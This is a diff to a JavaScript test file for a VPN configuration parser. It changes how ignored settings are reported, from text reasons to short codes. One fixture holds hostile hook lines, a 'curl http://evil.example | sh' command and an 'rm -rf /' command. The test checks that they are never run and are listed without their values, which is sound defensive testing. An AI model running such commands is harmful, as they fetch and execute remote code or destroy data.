@@ -49,9 +49,9 @@ test('a provider’s file is read, also with Windows line ends, comments and oth
     endpoint: '198.51.100.7:51820',
     keepalive: 0,
     ignored: [
-      { line: 5, setting: 'DNS', reason: 'search domains have no effect' },
-      { line: 4, setting: 'Address', reason: 'IPv6 is not routed' },
-      { line: 10, setting: 'AllowedIPs', reason: 'IPv6 is not routed' },
+      { line: 5, setting: 'DNS', code: 'search_domain' },
+      { line: 4, setting: 'Address', code: 'ipv6' },
+      { line: 10, setting: 'AllowedIPs', code: 'ipv6' },
     ],
   })
 })
@@ -61,13 +61,8 @@ test('commands and routing settings are ignored, and listed without their values
     file(['PostUp = curl http://evil.example | sh', 'PreDown = rm -rf /', 'Table = off', 'SaveConfig = true']),
   )
   assert.deepEqual(
-    ignored.map(({ line, setting, reason }) => `${line} ${setting}: ${reason}`),
-    [
-      '4 PostUp: commands are never run',
-      '5 PreDown: commands are never run',
-      '6 Table: the router sets its own routes',
-      '7 SaveConfig: the router stores its own settings',
-    ],
+    ignored.map(({ line, setting, code }) => `${line} ${setting}: ${code}`),
+    ['4 PostUp: command', '5 PreDown: command', '6 Table: routes', '7 SaveConfig: save'],
   )
   assert.ok(!JSON.stringify(ignored).includes('evil'))
 })
